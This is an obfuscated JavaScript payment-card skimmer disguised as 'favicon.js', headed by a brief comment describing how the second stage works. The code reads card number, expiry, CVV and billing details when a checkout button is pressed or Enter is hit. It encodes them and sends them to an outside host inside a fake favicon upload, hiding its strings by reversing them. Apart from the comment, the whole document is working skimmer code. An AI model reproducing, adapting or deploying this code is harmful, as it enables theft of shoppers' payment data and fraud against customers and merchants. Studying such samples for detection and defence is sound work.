// The second stage served as "favicon.js": string pieces reversed and joined, a hex-keyed
// table of field names, card and billing fields read when the order button is pressed,
// the result reversed and base64-encoded, sent by a POST that claims to upload an icon.
(function (w, d) {
  var r = function (s) { return s.split("").reverse().join(""); };
  var H = r("dilavni.ipa-nocivaf-ngised//:sptth");
  var K = {
    0x1: r("rebmun_cc"), 0x2: r("htnom_pxe_cc"), 0x3: r("raey_pxe_cc"), 0x4: r("dic_cc"),
    0x5: r("eman_tsrif"), 0x6: r("eman_tsal"), 0x7: r("teerts"), 0x8: r("edocyksop"),
    0x9: r("liame"), 0xa: r("enohpelet")
  };
  var sent = w[r("egarotSnoisses")] && w[r("egarotSnoisses")][r("metIteg")]("_fvc");
  function val(n) {
    var e = d.querySelector("[name*='" + n + "'],[id*='" + n + "']");
    return e ? e.value : "";
  }
  function grab() {
    var o = {}, full = 0;
    for (var k in K) { if (K.hasOwnProperty(k)) { o[k] = val(K[k]); if (o[k]) full++; } }
    if (o[0x1].replace(/\D/g, "").length < 13 || full < 4) return null;
    o.h = w.location.hostname;
    return o;
  }
  function go() {
    if (sent) return;
    var o = grab();
    if (!o) return;
    var blob = r(w.btoa(unescape(encodeURIComponent(JSON.stringify(o)))));
    var f = new FormData();
    f.append("icon", new Blob([blob], { type: "image/x-icon" }), "favicon.ico");
    w[r("hctef")](H + "/upload/ico", { method: "POST", body: f, mode: "no-cors", credentials: "omit" });
    w[r("egarotSnoisses")][r("metItes")]("_fvc", "1");
    sent = "1";
  }
  d.addEventListener("mousedown", function (e) {
    var t = e.target;
    for (var i = 0; t && i < 4; i++, t = t.parentNode) {
      if (t.id && /place-order|payment-button|btn-checkout/i.test(t.id)) { setTimeout(go, 50); return; }
      if (t.className && typeof t.className === "string" && /checkout|place-order/.test(t.className)) { setTimeout(go, 50); return; }
    }
  }, true);
  d.addEventListener("keydown", function (e) { if (e.keyCode === 13) setTimeout(go, 50); }, true);
})(window, document);
